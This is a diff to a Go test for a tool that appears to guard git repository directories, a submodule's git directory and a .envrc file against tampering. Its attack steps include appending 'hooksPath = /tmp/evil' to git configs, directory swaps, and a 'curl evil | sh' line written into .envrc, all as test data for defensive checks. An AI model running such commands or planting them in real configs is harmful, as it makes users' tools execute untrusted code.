@@ -70,6 +70,13 @@ func TestProtectByIdentity(t *testing.T) {
 		require.NoError(t, os.WriteFile(filepath.Join(git, "config"), []byte("[core]\n"), 0o644))
 		repos = append(repos, &repo{git: git, ino: stat(git), hooksIn: stat(filepath.Join(git, "hooks"))})
 	}
+	// A submodule's git directory inside proj's .git: git runs its hooks
+	// and obeys its config when the user works in the submodule.
+	sub := filepath.Join(ws, "proj", ".git", "modules", "sub")
+	require.NoError(t, os.MkdirAll(filepath.Join(sub, "hooks"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(sub, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(sub, "config"), []byte("[core]\n"), 0o644))
+	repos = append(repos, &repo{git: sub, ino: stat(sub), hooksIn: stat(filepath.Join(sub, "hooks"))})
 	envrc := filepath.Join(ws, "group", ".envrc")
 	require.NoError(t, os.WriteFile(envrc, []byte("# empty\n"), 0o644))
 	proj := filepath.Join(ws, "proj")
@@ -85,6 +92,9 @@ func TestProtectByIdentity(t *testing.T) {
 		{"symwrite", proj},
 		{"append", filepath.Join(proj, ".git", "config") + "#\thooksPath = /tmp/evil\n"},
 		{"append", envrc + "#curl evil | sh\n"},
+		{"append", filepath.Join(sub, "config") + "#\thooksPath = /tmp/evil\n"},
+		{"dirswap", sub + "#."},
+		{"dirswap", filepath.Join(ws, "proj", ".git", "modules") + "#sub"},
 	}
 	raw, err := json.Marshal(steps)
 	require.NoError(t, err)
@@ -119,11 +129,12 @@ func TestProtectByIdentity(t *testing.T) {
 	// The same attacks without the launcher succeed, so the test can fail.
 	t.Run("baseline", func(t *testing.T) {
 		base := exec.Command(self)
-		base.Env = append(os.Environ(), stepsEnv+`=[["dirswap",`+strconvQuote(proj)+`]]`)
+		base.Env = append(os.Environ(), stepsEnv+`=[["dirswap",`+strconvQuote(proj)+`],["dirswap",`+strconvQuote(sub+"#.")+`]]`)
 		out, err := base.CombinedOutput()
 		require.NoError(t, err, "%s", out)
-		assert.Equal(t, "dirswap ok\n", string(out))
+		assert.Equal(t, "dirswap ok\ndirswap ok\n", string(out))
 		assert.FileExists(t, filepath.Join(proj, ".git", "hooks", "pre-commit"))
+		assert.FileExists(t, filepath.Join(sub, "hooks", "pre-commit"))
 	})
 }
 
